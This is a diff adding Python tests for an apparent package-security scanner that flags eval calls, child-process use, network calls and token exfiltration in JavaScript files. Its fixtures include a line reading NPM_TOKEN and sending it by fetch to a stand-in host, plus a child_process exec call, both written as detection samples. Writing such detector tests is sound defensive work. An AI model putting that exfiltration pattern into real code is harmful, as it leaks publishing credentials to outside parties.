@@ -32,6 +32,7 @@ from tests.inspect.rules_support import of, scan
         b"(0, eval)(code)\n",
         b"globalThis.eval(code)\n",
         b"eval?.(code)\n",
+        b"const r = await fetch<Reply>(url)\n",
     ],
 )
 def test_a_trigger_that_may_be_called_makes_the_file_parsed(code: bytes):
@@ -142,3 +143,54 @@ def test_the_parse_budget_leaves_no_file_unparsed_in_an_ordinary_release():
 
     assert of(findings, "scan.not-scanned") == []
     assert {f.path for f in of(findings, "code.child-process")} == {"a.js", "b.js"}
+
+
+def test_the_baseline_is_read_only_for_the_changed_files_that_had_findings(monkeypatch):
+    import tests.inspect.rules_support as support
+    from reviews.inspect.archive import read_members as real
+
+    asked: list[list[str]] = []
+
+    def recording(source, paths, *args):
+        if list(paths) != ["package.json"]:
+            asked.append(sorted(paths))
+        return real(source, paths, *args)
+
+    monkeypatch.setattr(support, "read_members", recording)
+    call = "require('child_process').exec(x)\n"
+    old = {"run.js": call, "quiet.js": "fetch(u)\n", "plain.js": "1\n"}
+    new = {"run.js": call + "// touched\n", "quiet.js": "fetch(v)\n", "plain.js": "2\n"}
+
+    findings = scan(old, new)
+    nothing = scan({"plain.js": "1\n"}, {"plain.js": "2\n"})
+
+    assert asked == [["quiet.js", "run.js"]]
+    assert {f.status for f in of(findings, "code.child-process")} == {Status.EXISTING}
+    assert [f.status for f in of(findings, "code.network")] == [Status.CHANGED]
+    assert nothing == []
+
+
+def test_in_a_large_changed_file_old_code_stays_existing_and_new_code_is_new_at_its_line():
+    lines = [f"const a{i} = helper({i}, 'x')\n" for i in range(20_000)]
+    lines[100] = "const t = process.env.NPM_TOKEN\n"
+    baseline = "".join(lines)
+    lines[15_000] = "fetch('https://example.test/' + t)\n"
+    staged = "".join(lines)
+
+    findings = scan({"dist/big.js": baseline}, {"dist/big.js": staged})
+
+    token = of(findings, "code.env-token")
+    network = of(findings, "code.network")
+    assert [(f.where, f.status) for f in token] == [("dist/big.js:101", Status.EXISTING)]
+    assert [(f.where, f.status) for f in network] == [("dist/big.js:15001", Status.NEW)]
+    assert [(f.where, f.status) for f in of(findings, "code.exfiltration")] == [
+        ("dist/big.js:15001", Status.NEW)
+    ]
+
+
+def test_a_typescript_call_with_type_arguments_is_found():
+    code = "export async function get(): Promise<Reply> {\n  return fetch<Reply>('/x')\n}\n"
+
+    found = of(scan({}, {"lib/get.ts": code}), "code.network")
+
+    assert [f.where for f in found] == ["lib/get.ts:2"]
